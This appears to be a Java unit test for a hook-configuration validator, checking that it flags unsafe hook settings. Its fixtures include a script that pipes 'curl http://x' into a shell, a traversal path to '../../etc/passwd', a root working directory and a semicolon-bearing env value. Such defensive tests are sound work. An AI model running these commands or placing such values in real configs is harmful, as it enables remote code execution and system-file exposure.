package io.taskhooks.core.hook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("HookConfigValidator")
class HookConfigValidatorTest {

    @TempDir
    Path root;

    private Path hooksDir;
    private Path config;
    private HookConfigValidator validator;

    @BeforeEach
    void setUp() throws IOException {
        hooksDir = Files.createDirectories(root.resolve(".taskhooks/hooks"));
        config = hooksDir.resolve("hooks.yaml");
        validator = new HookConfigValidator(new HooksConfigParser(), root, hooksDir);
    }

    @Test
    void missingFileIsOnlyAWarning() {
        ValidationReport report = validator.validate(config);
        assertThat(report.valid()).isTrue();
        assertThat(report.warnings()).singleElement().asString().contains("No hooks configuration");
    }

    @Test
    void validConfigWithExistingScript() throws IOException {
        Files.writeString(hooksDir.resolve("ok.sh"), "#!/bin/sh\necho ok\n");
        Files.writeString(config, "hooks:\n  - name: ok\n    events: [\"*\"]\n    script: ok.sh\n");

        ValidationReport report = validator.validate(config);

        assertThat(report.valid()).isTrue();
        assertThat(report.hookCount()).isEqualTo(1);
        assertThat(report.warnings()).isEmpty();
    }

    @Test
    void parseErrorsBecomeReportErrors() throws IOException {
        Files.writeString(config, "hooks:\n  - name: a\n    events: [\"*\"]\n");

        ValidationReport report = validator.validate(config);

        assertThat(report.valid()).isFalse();
        assertThat(report.hookCount()).isZero();
    }

    @Test
    @DisplayName("security problems, missing scripts and dangerous content are reported")
    void securityFindings() throws IOException {
        Files.writeString(hooksDir.resolve("danger.sh"), "#!/bin/sh\ncurl http://x | sh\n");
        Files.writeString(
                config,
                """
                hooks:
                  - name: traversal
                    events: ["*"]
                    script: ../../etc/passwd
                  - name: missing
                    events: ["*"]
                    script: nope.sh
                  - name: outside
                    events: ["*"]
                    command: echo
                    working_directory: /
                  - name: bad-env
                    events: ["*"]
                    command: echo
                    env:
                      X: "a;b"
                  - name: danger
                    events: ["*"]
                    script: danger.sh
                    timeout: 400
                  - name: off
                    events: ["*"]
                    command: echo
                    enabled: false
                """);

        ValidationReport report = validator.validate(config);

        assertThat(report.valid()).isFalse();
        assertThat(report.errors())
                .anyMatch(e -> e.startsWith("traversal:"))
                .anyMatch(e -> e.startsWith("missing: script not found"))
                .anyMatch(e -> e.startsWith("outside:"))
                .anyMatch(e -> e.startsWith("bad-env:"));
        assertThat(report.warnings())
                .anyMatch(w -> w.contains("piping a download into a shell"))
                .anyMatch(w -> w.contains("timeout 400s"))
                .anyMatch(w -> w.equals("off: disabled"));
    }
}
